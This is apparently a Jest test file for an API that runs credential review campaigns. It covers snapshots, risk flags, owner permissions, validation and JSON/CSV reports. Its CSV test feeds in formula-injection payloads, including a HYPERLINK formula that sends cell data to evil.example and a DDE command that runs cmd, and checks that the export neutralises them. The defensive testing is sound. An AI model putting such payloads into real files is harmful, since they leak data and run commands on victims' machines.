import { parse } from 'csv-parse/sync';

import { Fixtures } from '../support/fixtures';
import { startTestApp, TestApp } from '../support/test-app';
import { DAY, ReviewHelpers } from './review-helpers';

/**
 * Opening campaigns: the snapshot (scope, assignment, risk flags, what is
 * left out), progress, item lists and the owners' view, bad input, and the
 * report in JSON and CSV (rows equal to items; formula injection neutralised).
 */
describe('review campaigns', () => {
  let t: TestApp;
  let f: Fixtures;
  let h: ReviewHelpers;
  let ownerA: any;
  let ownerB: any;
  let product: any;
  let agentA: any;
  let agentB: any;
  let tokenA: string;
  let tokenB: string;
  const cred: Record<string, any> = {};

  beforeAll(async () => {
    t = await startTestApp();
    f = new Fixtures(t);
    h = new ReviewHelpers(t, f);
    ownerA = await f.owner();
    ownerB = await f.owner();
    product = await f.product();
    agentA = await f.agent(ownerA.id);
    agentB = await f.agent(ownerB.id);
    tokenA = (await f.token('owner', ownerA.id)).token;
    tokenB = (await f.token('owner', ownerB.id)).token;
    const p = product.name;
    const now = t.clock.now().getTime();

    // Production, read+write, no allowlist, never used.
    cred.prodWrite = (await f.credential(agentA.id, [`${p}:read`, `${p}:write`])).credential;
    // Sandbox, allowlisted, a very high rate limit, issued 60 and last used 40 days ago (no call since), rotation overdue.
    cred.sandboxBusy = (
      await f.credential(agentA.id, [`${p}:read`], {
        environment: 'sandbox',
        ipAllowlist: ['10.0.0.0/8'],
        rateLimit: { requests: 100000, perSeconds: 1 },
      })
    ).credential;
    await h.setCredentialColumns(cred.sandboxBusy.id, {
      lastUsedAt: new Date(now - 40 * DAY),
      nextRotationAt: new Date(now - DAY),
      createdAt: new Date(now - 60 * DAY),
    });
    // Delete and admin scopes, approved by a second admin; used an hour ago.
    cred.privileged = await h.privilegedCredential(agentA.id, [`${p}:read`, `${p}:delete`, `${p}:admin`], {
      ipAllowlist: ['192.0.2.0/24'],
    });
    await h.setCredentialColumns(cred.privileged.id, { lastUsedAt: new Date(now - 3600_000) });
    // Not active: awaiting approval, and revoked.
    cred.pending = (await f.credential(agentA.id, [`${p}:delete`])).credential;
    cred.revoked = (await f.credential(agentA.id, [`${p}:read`])).credential;
    await h.revoke(cred.revoked.id);
    // Sandbox, not due, but its latest rotation failed (a dead letter of the rotation engine).
    cred.failedRotation = (await f.credential(agentA.id, [`${p}:read`], { environment: 'sandbox' })).credential;
    await t.dataSource.query(
      `INSERT INTO rotations (id, credential_id, owner_id, secret_store, secret_target, trigger, immediate, requested_by, step, status,
         from_version, from_version_id, to_version, attempts, error, next_attempt_at, started_at, failed_at, created_at, updated_at)
       VALUES (gen_random_uuid(), $1, $2, 'local', '{}'::jsonb, 'scheduled', false, 'system:rotation', 'pending', 'failed',
         1, '1', 2, 8, 'store unavailable', $3, $3, $3, $3, $3)`,
      [cred.failedRotation.id, ownerA.id, t.clock.now()],
    );
    // Owner B: production, allowlisted, used yesterday.
    cred.ownerB = (await f.credential(agentB.id, [`${p}:read`], { ipAllowlist: ['198.51.100.0/24'] })).credential;
    await h.setCredentialColumns(cred.ownerB.id, { lastUsedAt: new Date(now - DAY) });
  });
  afterAll(() => t.close());

  describe('opening', () => {
    let campaign: any;
    let items: any[];

    beforeAll(async () => {
      campaign = await h.open({ name: 'Q1 review' });
      items = await h.items(campaign.id);
    });

    it('answers 201 with the campaign open, one item per active credential, due in 14 days by default', async () => {
      const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM credentials WHERE status = 'active'`);
      expect(campaign).toMatchObject({
        status: 'open',
        itemCount: n,
        onExpiry: 'keep',
        name: 'Q1 review',
        environment: null,
        ownerIds: null,
      });
      expect(new Date(campaign.dueAt).getTime() - new Date(campaign.openedAt).getTime()).toBe(14 * DAY);
      expect(new Date(campaign.openedAt).getTime()).toBe(t.clock.now().getTime());
      expect(items).toHaveLength(n);
      expect(new Set(items.map((i) => i.credentialId)).size).toBe(n);
    });

    it('leaves out credentials that are not active', () => {
      const ids = items.map((i) => i.credentialId);
      expect(ids).not.toContain(cred.pending.id);
      expect(ids).not.toContain(cred.revoked.id);
      expect(ids).toEqual(expect.arrayContaining([cred.prodWrite.id, cred.sandboxBusy.id, cred.privileged.id, cred.ownerB.id]));
    });

    it("assigns each item to the agent's owner, pending, with a snapshot of the credential", () => {
      const item = items.find((i) => i.credentialId === cred.sandboxBusy.id);
      expect(item).toMatchObject({
        campaignId: campaign.id,
        ownerId: ownerA.id,
        status: 'pending',
        decision: null,
        decidedBy: null,
        decidedAt: null,
        comment: null,
        outcome: null,
        snapshot: {
          scopes: [`${product.name}:read`],
          rateLimit: { requests: 100000, perSeconds: 1 },
          ipAllowlist: ['10.0.0.0/8'],
          environment: 'sandbox',
          lastRotatedAt: null,
          clientId: cred.sandboxBusy.clientId,
          agentId: agentA.id,
          agentName: agentA.name,
        },
      });
      expect(item.snapshot.lastUsedAt).toBe(new Date(t.clock.now().getTime() - 40 * DAY).toISOString());
      expect(items.find((i) => i.credentialId === cred.ownerB.id).ownerId).toBe(ownerB.id);
    });

    it('computes the risk flags at open', () => {
      const flags = (id: string) => items.find((i) => i.credentialId === id).riskFlags;
      expect(flags(cred.prodWrite.id)).toEqual(['write_scope', 'no_ip_allowlist_production', 'never_used']);
      expect(flags(cred.sandboxBusy.id)).toEqual(['rotation_overdue', 'unused_30d', 'high_rate_limit']);
      expect(flags(cred.privileged.id)).toEqual(['delete_scope', 'admin_scope']);
      expect(flags(cred.ownerB.id)).toEqual([]);
      expect(flags(cred.failedRotation.id)).toEqual(['rotation_overdue', 'never_used']);
    });

    it('writes one audit event for the campaign', async () => {
      const r = await t.http.get(`/v1/audit-events?targetId=${campaign.id}`, f.admin);
      expect(r.body.items.map((e: any) => e.action)).toEqual(['campaign.opened']);
      expect(r.body.items[0].data).toMatchObject({ itemCount: campaign.itemCount, name: 'Q1 review' });
    });

    it('does not take in credentials issued after it opened', async () => {
      t.clock.advance(1000);
      const later = (await f.credential(agentA.id, [`${product.name}:read`])).credential;
      expect((await h.items(campaign.id)).map((i) => i.credentialId)).not.toContain(later.id);
      const progress = await t.http.get(`/v1/campaigns/${campaign.id}`, f.admin);
      expect(progress.body.itemCount).toBe(items.length);
    });

    it('reports progress per owner', async () => {
      const r = await t.http.get(`/v1/campaigns/${campaign.id}`, f.admin);
      expect(r.status).toBe(200);
      expect(r.body).toMatchObject({
        id: campaign.id,
        status: 'open',
        itemCount: items.length,
        decidedCount: 0,
        pendingCount: items.length,
      });
      const a = r.body.owners.find((o: any) => o.ownerId === ownerA.id);
      expect(a).toMatchObject({
        total: items.filter((i) => i.ownerId === ownerA.id).length,
        decided: 0,
        pending: a.total,
        signedOffAt: null,
      });
      // An owner sees only its own entry.
      const mine = await t.http.get(`/v1/campaigns/${campaign.id}`, tokenB);
      expect(mine.status).toBe(200);
      expect(mine.body.owners.map((o: any) => o.ownerId)).toEqual([ownerB.id]);
    });

    it('lists items by owner and status, an owner only its own', async () => {
      const ofA = await h.items(campaign.id, f.admin, `&ownerId=${ownerA.id}&status=pending`);
      expect(ofA.length).toBeGreaterThan(0);
      expect(ofA.every((i) => i.ownerId === ownerA.id && i.status === 'pending')).toBe(true);
      const asB = await h.items(campaign.id, tokenB);
      expect(asB.map((i) => i.credentialId)).toEqual([cred.ownerB.id]);
      expect((await t.http.get(`/v1/campaigns/${campaign.id}/items?ownerId=${ownerA.id}`, tokenB)).status).toBe(403);
      expect(await h.items(campaign.id, f.admin, '&status=decided')).toEqual([]);
      const page = await t.http.get(`/v1/campaigns/${campaign.id}/items?limit=2`, f.admin);
      expect(page.body.items).toHaveLength(2);
      expect(page.body.nextCursor).toEqual(expect.any(String));
    });

    it('shows an owner its pending items in /v1/reviews/mine with what it needs to decide', async () => {
      const r = await t.http.get('/v1/reviews/mine?limit=500', tokenA);
      expect(r.status).toBe(200);
      const mine = r.body.items.filter((i: any) => i.campaignId === campaign.id);
      expect(mine.map((i: any) => i.credentialId).sort()).toEqual(
        items
          .filter((i) => i.ownerId === ownerA.id)
          .map((i) => i.credentialId)
          .sort(),
      );
      const busy = mine.find((i: any) => i.credentialId === cred.sandboxBusy.id);
      expect(busy).toMatchObject({
        campaignName: 'Q1 review',
        dueAt: campaign.dueAt,
        status: 'pending',
        riskFlags: expect.arrayContaining(['unused_30d']),
      });
      expect(busy.snapshot).toHaveProperty('lastUsedAt');
      expect(busy.snapshot).toHaveProperty('lastRotatedAt');
      expect(r.body.items.every((i: any) => i.ownerId === ownerA.id)).toBe(true);
      expect((await t.http.get('/v1/reviews/mine', f.admin)).status).toBe(403);
    });
  });

  it('narrows the scope to an environment and to owners', async () => {
    const campaign = await h.open({
      name: 'sandbox of A',
      environment: 'sandbox',
      ownerIds: [ownerA.id],
      dueInDays: 3,
      onExpiry: 'revoke',
    });
    expect(campaign).toMatchObject({ environment: 'sandbox', ownerIds: [ownerA.id], onExpiry: 'revoke' });
    expect(new Date(campaign.dueAt).getTime() - new Date(campaign.openedAt).getTime()).toBe(3 * DAY);
    const items = await h.items(campaign.id);
    expect(items.map((i) => i.credentialId).sort()).toEqual([cred.sandboxBusy.id, cred.failedRotation.id].sort());
    expect(campaign.itemCount).toBe(2);
    const onlyB = await h.open({ name: 'B only', ownerIds: [ownerB.id] });
    expect((await h.items(onlyB.id)).map((i) => i.credentialId)).toEqual([cred.ownerB.id]);
  });

  it('refuses bad input with a 400 naming the field, and stores nothing', async () => {
    const [{ n: before }] = await t.dataSource.query('SELECT count(*)::int AS n FROM campaigns');
    const cases: Array<[Record<string, unknown>, string]> = [
      [{}, 'name'],
      [{ name: '' }, 'name'],
      [{ name: 'x', dueInDays: 0 }, 'dueInDays'],
      [{ name: 'x', dueInDays: 91 }, 'dueInDays'],
      [{ name: 'x', dueInDays: 1.5 }, 'dueInDays'],
      [{ name: 'x', onExpiry: 'delete' }, 'onExpiry'],
      [{ name: 'x', environment: 'staging' }, 'environment'],
      [{ name: 'x', ownerIds: [] }, 'ownerIds'],
      [{ name: 'x', ownerIds: ['not-a-uuid'] }, 'ownerIds'],
      [{ name: 'x', ownerIds: [ownerA.id, '7a1f4a8e-8f5e-4c1e-9a51-3a4b5c6d7e8f'] }, 'ownerIds[1]'],
      [{ name: 'x', surprise: true }, 'surprise'],
    ];
    for (const [body, field] of cases) {
      const r = await t.http.post('/v1/campaigns', body, f.admin);
      expect({ body, status: r.status }).toEqual({ body, status: 400 });
      expect(r.headers.get('content-type')).toContain('application/problem+json');
      expect(r.body.errors.map((e: any) => e.field)).toContain(field);
    }
    const [{ n: after }] = await t.dataSource.query('SELECT count(*)::int AS n FROM campaigns');
    expect(after).toBe(before);
    expect((await t.http.get('/v1/campaigns/not-a-uuid', f.admin)).status).toBe(400);
    expect((await t.http.get('/v1/campaigns/7a1f4a8e-8f5e-4c1e-9a51-3a4b5c6d7e8f', f.admin)).status).toBe(404);
  });

  it('documents every review route in the OpenAPI document', async () => {
    const doc = await t.http.get('/docs-json');
    expect(Object.keys(doc.body.paths)).toEqual(
      expect.arrayContaining([
        '/v1/campaigns',
        '/v1/campaigns/{id}',
        '/v1/campaigns/{id}/items',
        '/v1/campaigns/{id}/items/{itemId}/decision',
        '/v1/campaigns/{id}/signoff',
        '/v1/campaigns/{id}/close',
        '/v1/campaigns/{id}/report',
        '/v1/campaign-schedules',
        '/v1/reviews/mine',
      ]),
    );
    const decision = doc.body.paths['/v1/campaigns/{id}/items/{itemId}/decision'].post;
    expect(JSON.stringify(decision)).toContain('DecideDto');
  });

  describe('the report', () => {
    let campaign: any;
    const hostile = {
      agentName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
      comments: ['+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"],
    };

    beforeAll(async () => {
      const owner = await f.owner();
      const token = (await f.token('owner', owner.id)).token;
      const r = await t.http.post('/v1/agents', { name: hostile.agentName, ownerId: owner.id }, f.admin);
      expect(r.status).toBe(201);
      for (let i = 0; i < hostile.comments.length; i++) await f.credential(r.body.id, [`${product.name}:read`]);
      campaign = await h.open({ name: '-report', ownerIds: [owner.id, ownerB.id] });
      const items = (await h.items(campaign.id)).filter((i) => i.ownerId === owner.id);
      for (const [i, item] of items.entries()) {
        const d = await h.decide(campaign.id, item.id, { decision: 'keep', comment: hostile.comments[i] }, token);
        expect(d.status).toBe(200);
      }
      expect((await t.http.post(`/v1/campaigns/${campaign.id}/signoff`, {}, token)).status).toBe(201);
    });

    it('in JSON has one row per item, equal to the items, with the sign-offs', async () => {
      const r = await t.http.get(`/v1/campaigns/${campaign.id}/report`, f.admin);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toContain('application/json');
      const items = await h.items(campaign.id);
      expect(r.body.items).toHaveLength(items.length);
      expect(r.body.campaign).toMatchObject({ id: campaign.id, itemCount: items.length, decidedCount: hostile.comments.length });
      expect(r.body.signoffs).toHaveLength(1);
      const byId = new Map(r.body.items.map((row: any) => [row.itemId, row]));
      for (const item of items) {
        expect(byId.get(item.id)).toEqual({
          itemId: item.id,
          credentialId: item.credentialId,
          clientId: item.snapshot.clientId,
          agentId: item.snapshot.agentId,
          agentName: item.snapshot.agentName,
          ownerId: item.ownerId,
          environment: item.snapshot.environment,
          scopesBefore: item.snapshot.scopes,
          scopesAfter: item.scopesAfter,
          riskFlags: item.riskFlags,
          rateLimitRequests: item.snapshot.rateLimit.requests,
          rateLimitPerSeconds: item.snapshot.rateLimit.perSeconds,
          ipAllowlist: item.snapshot.ipAllowlist,
          lastUsedAt: item.snapshot.lastUsedAt,
          lastRotatedAt: item.snapshot.lastRotatedAt,
          calls30d: item.usage.calls30d,
          calls90d: item.usage.calls90d,
          denied90d: item.usage.denied90d,
          scopesUsed90d: item.usage.scopesUsed90d,
          recommendation: item.recommendation.decision,
          recommendedScopes: item.recommendation.scopes ?? null,
          recommendationReason: item.recommendation.reason,
          status: item.status,
          decision: item.decision,
          outcome: item.outcome,
          decidedBy: item.decidedBy,
          decidedAt: item.decidedAt,
          comment: item.comment,
          resolvedAt: item.resolvedAt,
          ownerSignedOffAt: item.ownerId === ownerB.id ? null : r.body.signoffs[0].signedAt,
          ownerSignedBy: item.ownerId === ownerB.id ? null : r.body.signoffs[0].signedBy,
          ownerDecisionsSha256: item.ownerId === ownerB.id ? null : r.body.signoffs[0].decisionsSha256,
        });
      }
    });

    it('in CSV has a header and one row per item, with formula-like cells neutralised', async () => {
      const r = await t.http.get(`/v1/campaigns/${campaign.id}/report?format=csv`, f.admin);
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toContain('text/csv');
      expect(r.headers.get('content-disposition')).toContain(`campaign-${campaign.id}.csv`);
      const rows: Array<Record<string, string>> = parse(r.text, { columns: true, relax_column_count: false });
      const items = await h.items(campaign.id);
      expect(rows.map((row) => row.itemId).sort()).toEqual(items.map((i) => i.id).sort());
      for (const row of rows) {
        const item = items.find((i) => i.id === row.itemId);
        expect(row.credentialId).toBe(item.credentialId);
        expect(row.status).toBe(item.status);
        expect(row.scopesBefore).toBe(item.snapshot.scopes.join(' '));
        expect(row.riskFlags).toBe(item.riskFlags.join(' '));
      }
      const hostileRows = rows.filter((row) => row.ownerSignedOffAt !== '');
      expect(hostileRows).toHaveLength(hostile.comments.length);
      for (const row of hostileRows) {
        expect(row.agentName).toBe(`'${hostile.agentName}`);
        expect(hostile.comments.map((c) => `'${c}`)).toContain(row.comment);
      }
      // No cell of the file starts like a formula.
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // The campaign name is not in the CSV rows; the sign-off hash is.
      expect(hostileRows[0].ownerDecisionsSha256).toMatch(/^[0-9a-f]{64}$/);
    });

    it('is for admins and auditors; an unknown campaign is a 404 problem, a bad format a 400', async () => {
      const auditor = (await f.token('auditor')).token;
      expect((await t.http.get(`/v1/campaigns/${campaign.id}/report?format=csv`, auditor)).status).toBe(200);
      expect((await t.http.get(`/v1/campaigns/${campaign.id}/report`, tokenB)).status).toBe(403);
      const missing = await t.http.get('/v1/campaigns/7a1f4a8e-8f5e-4c1e-9a51-3a4b5c6d7e8f/report?format=csv', f.admin);
      expect(missing.status).toBe(404);
      expect(missing.headers.get('content-type')).toContain('application/problem+json');
      const bad = await t.http.get(`/v1/campaigns/${campaign.id}/report?format=xlsx`, f.admin);
      expect(bad.status).toBe(400);
      expect(bad.body.errors[0].field).toBe('format');
    });
  });
});
